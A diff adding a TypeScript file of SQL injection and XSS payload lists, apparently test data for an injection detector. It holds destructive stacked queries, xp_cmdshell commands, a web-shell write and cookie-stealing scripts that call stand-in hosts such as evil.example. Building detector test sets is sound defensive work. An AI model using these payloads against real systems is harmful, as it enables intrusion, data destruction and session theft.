@@ -1,0 +1,111 @@
+/**
+ * Well-known injection payloads, written from the public payload lists
+ * (OWASP testing guide, OWASP XSS filter evasion cheat sheet, PortSwigger
+ * cheat sheets, sqlmap's techniques): tautologies, union, error-based,
+ * blind boolean and time-based, stacked queries, comment truncation and the
+ * usual evasions (URL, double URL, unicode and entity encoding, case mixing,
+ * inline comments). generate.ts places them in requests.
+ */
+export const SQLI: string[] = [
+  // tautologies / login bypass
+  "' or 1=1--", "' or 1=1#", "' or 1=1/*", "' OR '1'='1", "' OR '1'='1' --", "' OR '1'='1' /*", "' or 'a'='a", "' or ''='", "'or''='",
+  '" or "1"="1', '" or ""="', '") or ("1"="1', "') or ('1'='1", "') or ('a'='a", "1' or '1'='1", "1 or 1=1", "1 OR 1=1--", "-1 or 1=1",
+  "admin'--", "admin' --", "admin'#", "admin'/*", "admin' or '1'='1", "admin' or '1'='1'--", "admin') or ('1'='1'--", "admin\" --",
+  "' or 1=1 limit 1 -- -+", "' OR 1 -- -", "' or true--", "' || '1'='1", "'||1=1#", "' or username like '%", "x' AND email IS NULL; --",
+  "' OR 'x'='x", "1' OR '1'='1' LIMIT 1;--", "') OR 1=1--", "')) or (('x'='x", "1) or (1=1", "' or 2>1--", "' or 3 between 1 and 5--",
+  "'=' 'or'", "' or 1 in (1)--", "' or not 1=2--", "' xor 1=1#",
+  // union-based
+  "' UNION SELECT NULL--", "' UNION SELECT NULL,NULL--", "' UNION SELECT NULL,NULL,NULL--", "' UNION ALL SELECT 1,2,3--",
+  "-1' UNION SELECT 1,2,3--", "1 UNION SELECT username, password FROM users", "1 union select 1,2,3", "0 union all select null,version()",
+  "' union select username, password from users--", "1' UNION SELECT table_name,NULL FROM information_schema.tables--",
+  "' UNION SELECT column_name FROM information_schema.columns WHERE table_name='users'--", "' union select @@version--",
+  "1 UNION SELECT load_file('/etc/passwd')", "' UNION SELECT 1, group_concat(schema_name) FROM information_schema.schemata--",
+  "1' union select null,concat(user,0x3a,password) from mysql.user#", "') union select 1,2,3#", "999999 union select banner from v$version",
+  "1 union(select 1,2)", "' UnIoN SeLeCt 1,2,3--", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2", "1/**/UNION/**/SELECT/**/1,2,3",
+  "1%20UnIoN%20SeLeCt%201,2,3", "1%2520union%2520select%25201,2", "-1 union distinctrow select 1,2", "1 union%0aselect%0a1,2",
+  // error-based
+  "' AND extractvalue(1,concat(0x7e,(SELECT version())))--", "' AND updatexml(1,concat(0x7e,(SELECT user())),1)--",
+  "' AND 1=CONVERT(int,@@version)--", "1 AND 1=CAST((SELECT version()) AS INT)", "' and 1=convert(int,(select top 1 name from sysobjects))--",
+  "' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT database()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)--",
+  "' having 1=1--", "' group by columnnames having 1=1--", "1' AND EXP(~(SELECT * FROM (SELECT USER())a))--",
+  "' AND 1=utl_inaddr.get_host_name((SELECT user FROM dual))--", "1 and 1=(select 1 from dual where 1=dbms_xmlgen.getxml('x'))",
+  "'+convert(int,@@version)+'", "' or 1=1 into outfile '/tmp/x'--", "' union select 1 into dumpfile '/var/www/shell.php'--",
+  // blind boolean
+  "1 AND 1=1", "1 AND 1=2", "1' AND '1'='1", "1' AND '1'='2", "' AND 1=1--", "' AND 1=2--",
+  "' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a", "' AND ASCII(SUBSTRING((SELECT database()),1,1))>64--",
+  "1 AND (SELECT 1 FROM users LIMIT 1)=1", "' AND (SELECT COUNT(*) FROM users)>0--", "' OR EXISTS(SELECT * FROM users WHERE username='admin') AND ''='",
+  "1' AND LENGTH(database())=8--", "' and (select substr(table_name,1,1) from all_tables where rownum=1)='A", "1 AND ORD(MID((SELECT IFNULL(CAST(username AS CHAR),0x20) FROM users ORDER BY id LIMIT 0,1),1,1))>64",
+  "' and 1 like 1--", "1 and 1 rlike 1", "' AND 'abc' = 'abc", "1' and substring(@@version,1,1)=5 --",
+  // time-based
+  "' AND SLEEP(5)--", "1' AND SLEEP(5) AND '1'='1", "1 AND SLEEP(5)", "' or sleep(5)#", "1) or sleep(5)#", "' OR (SELECT * FROM (SELECT(SLEEP(5)))a)--",
+  "1 AND (SELECT * FROM (SELECT(SLEEP(5)))bAKL)", "' AND BENCHMARK(5000000,MD5(1))--", "1 and benchmark(10000000,sha1('x'))",
+  "'; WAITFOR DELAY '0:0:5'--", "1; waitfor delay '00:00:05'--", "'));waitfor delay '0:0:5'--", "' || pg_sleep(5)--", "1; SELECT pg_sleep(5)--",
+  "' AND 1=(SELECT 1 FROM PG_SLEEP(5))--", "1' and if(1=1,sleep(5),0)--", "if(now()=sysdate(),sleep(5),0)", "' and dbms_pipe.receive_message(('a'),10)=1--",
+  "1 AND 1=randomblob(500000000)", "'; IF (1=1) WAITFOR DELAY '0:0:5'--", "sleep(5)#", "1 or sleep(5)", "0'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z",
+  // stacked
+  "'; DROP TABLE users--", "1; DROP TABLE users", "'); DROP TABLE students;--", "1; DELETE FROM users", "'; INSERT INTO users VALUES ('hacker','pw')--",
+  "'; UPDATE users SET password='x' WHERE username='admin'--", "'; EXEC xp_cmdshell('dir')--", "1; EXEC master..xp_cmdshell 'ping 10.0.0.1'--",
+  "'; exec sp_executesql N'select 1'--", "1; DECLARE @q VARCHAR(8000) SELECT @q=0x73656c656374 EXEC(@q)--", "'; shutdown --", "1;truncate table logs",
+  "'; CREATE USER hacker IDENTIFIED BY 'pw'--", "'; ALTER TABLE users ADD admin INT--", "1; select * from users", "';select 1;--",
+  // catalogue and version probes
+  "1 and @@version>5", "' and (select count(*) from information_schema.tables)>0--", "1 AND (SELECT COUNT(*) FROM sysobjects)>0",
+  "' union select name from sqlite_master--", "' and 1=(select count(*) from pg_catalog.pg_tables)--", "1 union select null, table_name from all_tables--",
+  // encodings and evasions
+  "%27%20OR%20%271%27%3D%271", "%27%20or%201%3D1--", "%2527%2520OR%25201%253D1--", "%u0027%20or%201=1--", "&#39; or 1=1--", "&#x27; OR &#x27;1&#x27;=&#x27;1",
+  "\\u0027 or 1=1--", "1'/**/OR/**/'1'='1", "admin'/**/--", "'/**/or/**/1=1#", "' oR 1=1--", "' Or 'X'='x", "%bf%27 or 1=1--",
+  "1'%0aor%0a1=1--", "'%09or%091=1--", "1 oR 1=1 /*", "' /*!or*/ 1=1--", "%2527%2520union%2520select%25201%252C2--", "＇ or 1=1--",
+  // held out while the detector was tuned on the payloads above, then added (31/34 were found before; 3 fixes followed)
+"1'||(select 1 from dual)||'", "' AnD 1=1 AnD 'a'='a", "admin'or'1'='1", "'or'1'='1", "1'or'1'='1'#", "') or true--", "' or 'unusual' = 'unusual'", "' OR 1=1 ORDER BY 1 --",
+ "1 AND 5151=5151", "1) AND 5151=5151 AND (8581=8581", "1' AND 5151=5151 AND 'bWAS'='bWAS", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))", "1;SELECT PG_SLEEP(5)--",
+ "1' WAITFOR DELAY '0:0:5'--", "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)", "';copy (select '') to program 'nslookup x.example'--", "%00' or 1=1--",
+ "1' and (select 1)=1 and '1'='1", "' or 1=1 -- ", "') or '1'='1'--", "1 and (select count(*) from users) > 0", "' and 1 = (select 1)--", "1' ORDER BY 3--+", "1 GROUP BY 1,2,3--",
+ "';exec master.dbo.xp_cmdshell 'whoami';--", "' UNION SELECT 1,@@version,3#", "admin' and '1'='1' #", "1 and 'x'='x'", "-1' or 1=1 #", "1' and 1=0 union all select 1,2,3 -- -",
+ "'||(SELECT CHR(65)||CHR(66) FROM DUAL)||'", "' AND 1=(SELECT COUNT(*) FROM sys.tables)--", "1; exec('sel'+'ect 1')", "' or 1 like 1#",
+];
+
+export const XSS: string[] = [
+  '<script>alert(1)</script>', '<script>alert("XSS")</script>', "<SCRIPT>alert('XSS')</SCRIPT>", '<ScRiPt>alert(1)</sCrIpT>',
+  '<script src=http://evil.example/x.js></script>', '<SCRIPT SRC=//evil.example/.j></SCRIPT>', '<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>',
+  '<<SCRIPT>alert("XSS");//<</SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '</script><script>alert(1)</script>',
+  '"><script>alert(1)</script>', "'><script>alert(document.cookie)</script>", '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
+  '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="//evil.example/xss.js"></SCRIPT>', '<script>fetch("//evil.example?c="+document.cookie)</script>',
+  '<img src=x onerror=alert(1)>', '<IMG SRC=x onerror="alert(\'XSS\')">', '<img src="x" onerror="alert(1)">', '<img/src="x"/onerror="alert(1)">',
+  '<img src="x"onerror="alert(1)">', '<img src=x onerror=alert`1`>', '<IMG SRC=# onmouseover="alert(\'xxs\')">', '<IMG SRC= onmouseover="alert(\'xxs\')">',
+  '<IMG onmouseover="alert(\'xxs\')">', '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>', '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
+  '<img src=x:alert(alt) onerror=eval(src) alt=0>', '<svg onload=alert(1)>', '<svg/onload=alert(1)>', '<svg/onload=alert(\'XSS\')>', '<svg><script>alert&#40;1&#41;</script>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><set attributeName=onmouseover to=alert(1)>', '<body onload=alert(1)>', '<BODY ONLOAD=alert(\'XSS\')>',
+  '<body onpageshow=alert(1)>', '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>', '<iframe src="javascript:alert(1)">', '<iframe src=//evil.example/x.html <',
+  '<iframe srcdoc="&lt;img src&equals;x:x onerror&equals;alert&lpar;1&rpar;&gt;">', '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>', '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
+  '<object data="javascript:alert(1)">', '<OBJECT TYPE="text/x-scriptlet" DATA="//evil.example/scriptlet.html"></OBJECT>', '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+  '<EMBED SRC="javascript:alert(1)">', '<a href="javascript:alert(1)">click</a>', '<a href="JaVaScRiPt:alert(1)">x</a>', '<a href="jav&#x09;ascript:alert(1)">x</a>',
+  '<a href="javas&#99;ript:alert(1)">x</a>', '<A HREF="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</A>', '<IMG SRC=javascript:alert(\'XSS\')>',
+  '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>', '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>', '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
+  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
+  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>', '<IMG SRC="jav\tascript:alert(\'XSS\');">',
+  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">', '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">', '<IMG DYNSRC="javascript:alert(\'XSS\')">', '<IMG LOWSRC="javascript:alert(\'XSS\')">',
+  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">', '<BODY BACKGROUND="javascript:alert(\'XSS\')">', '<TABLE BACKGROUND="javascript:alert(\'XSS\')">', '<BGSOUND SRC="javascript:alert(\'XSS\');">',
+  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">', '<STYLE>@import\'//evil.example/xss.css\';</STYLE>', '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
+  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">', '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
+  '<BASE HREF="javascript:alert(\'XSS\');//">', '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">', '<DIV STYLE="width: expression(alert(\'XSS\'));">',
+  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">', '<XSS STYLE="behavior: url(xss.htc);">', '<div style="-moz-binding:url(//evil.example/xss.xml#xss)">',
+  '<input onfocus=alert(1) autofocus>', '<select autofocus onfocus=alert(1)>', '<textarea autofocus onfocus=alert(1)>', '<keygen autofocus onfocus=alert(1)>',
+  '<details open ontoggle=alert(1)>', '<details/open/ontoggle="alert(1)">', '<marquee onstart=alert(1)>', '<video><source onerror="alert(1)">', '<audio src=x onerror=alert(1)>',
+  '<xss id=x tabindex=1 onfocus=alert(1)></xss>', '<form><button formaction=javascript:alert(1)>X</button></form>', '<isindex action=javascript:alert(1) type=image>',
+  '<math><a xlink:href="javascript:alert(1)">click</a></math>', '<!--<img src="--><img src=x onerror=alert(1)//">', '<x onclick=alert(1)>click me',
+  '<div onmouseover="alert(1)">hover</div>', '<a onmouseover=alert(document.cookie)>xxs link</a>', '<style>*{background:url("javascript:alert(1)")}</style>',
+  '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", '" autofocus onfocus=alert(1) x="', '"onmouseover=alert(1)//', "' onload=alert(1) '",
+  '";alert(1);//', "';alert(1);//", "'-alert(1)-'", '"-prompt(1)-"', '\\";alert(\'XSS\');//', "');alert(document.domain);//", "'+eval(atob('YWxlcnQoMSk='))+'",
+  'javascript:alert(1)', 'javascript:alert(document.cookie)', 'JaVaScRiPt:alert(1)', 'javascript://%0aalert(1)', 'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>',
+  'javascript:eval(atob("YWxlcnQoMSk="))', 'vbscript:msgbox("XSS")', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  '{{constructor.constructor(\'alert(1)\')()}}', "{{$on.constructor('alert(1)')()}}", '%3Cscript%3Ealert(1)%3C%2Fscript%3E', '%253Cscript%253Ealert(1)%253C%252Fscript%253E',
+  '%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
+  '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e', '%u003Cscript%u003Ealert(1)%u003C/script%u003E', '＜script＞alert(1)＜/script＞', '<svg/**/onload=alert(1)>', '<img src=x onerror=\\u0061lert(1)>',
+  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a>', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+  // held out while the detector was tuned on the payloads above, then added (30/30 were found before)
+'<img src=x onerror=prompt(1)//', '<svg onload=alert&lpar;1&rpar;>', '<iframe/src="data:text/html,<svg onload=alert(1)>">', '<object data=//x.example/x.swf>', '<a href=javascript&colon;alert(1)>',
+ '<x contenteditable onblur=alert(1)>lose focus!', '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationend="alert(1)"></xss>', '"><svg/onload=confirm(1)>', 'javascript:/**/alert(1)',
+ 'java%0ascript:alert(1)', '<body/onload=alert(1)>', '<input autofocus onfocusin=alert(1)>', "'-confirm(1)-'", '</textarea><script>alert(1)</script>', "<img src=x onerror=window['al'+'ert'](1)>",
+ '<svg><script href=data:,alert(1) />', '<math><maction actiontype=statusline xlink:href=javascript:alert(1)>', '%22%3E%3Csvg%20onload%3Dalert(1)%3E', '<a href="  javascript:alert(1)">',
+ "<img src='x' onerror='alert(1)'>", '<embed code=javascript:alert(1)>', '<div onpointerover="alert(1)">x</div>', '" onfocus="alert(1)" autofocus="', "javascript:window.location='//x.example?c='+document.cookie",
+ '<sVg OnLoAd=alert(1)>', '<script\x0Bsrc=//x.example/a.js></script>', '<image src=x onerror=alert(1)>', '<video src=x onerror=alert(1)>', '<form action=javascript:alert(1)><input type=submit>', '<meta http-equiv="refresh" content="0;javascript:alert(1)">',
+];
